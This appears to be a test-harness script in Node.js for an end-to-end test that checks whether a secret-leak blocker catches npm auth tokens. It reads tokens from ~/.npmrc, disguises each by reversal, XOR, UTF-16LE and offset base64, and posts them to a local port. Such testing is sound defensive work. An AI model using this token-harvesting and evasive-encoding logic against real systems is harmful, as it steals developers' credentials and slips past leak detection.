// attack.js - the node twin of attack.py for t/e2e/270-known-secrets.sh:
// reads ~/.npmrc's tokens and sends each reversed, XOR'd, UTF-16LE and
// base64 behind one byte to http://127.0.0.1:PORT; prints "NAME:HOW sent|blocked".
const fs = require("fs");
const http = require("http");
const port = Number(process.argv[2]);
const home = process.env.HOME;

function post(data) {
  return new Promise((resolve) => {
    const req = http.request({ host: "127.0.0.1", port, method: "POST", path: "/n",
      headers: { "Content-Length": data.length } }, (res) => { res.resume(); res.on("end", () => resolve(true)); });
    req.on("error", () => resolve(false));
    req.end(data);
  });
}

(async () => {
  for (const line of fs.readFileSync(home + "/.npmrc", "utf8").split("\n")) {
    const m = line.match(/^\/\/([^/]+)\/:_authToken=(.*)$/);
    if (!m) continue;
    const v = Buffer.from(m[2]);
    const enc = {
      reversed: Buffer.from(v).reverse(),
      xor33: Buffer.from(v.map((b) => b ^ 0x33)),
      utf16le: Buffer.from(m[2], "utf16le"),
      "base64+1": Buffer.from(Buffer.concat([Buffer.from([7]), v]).toString("base64")),
    };
    for (const [how, data] of Object.entries(enc))
      console.log(`node-${m[1]}:${how} ${(await post(data)) ? "sent" : "blocked"}`);
  }
})();
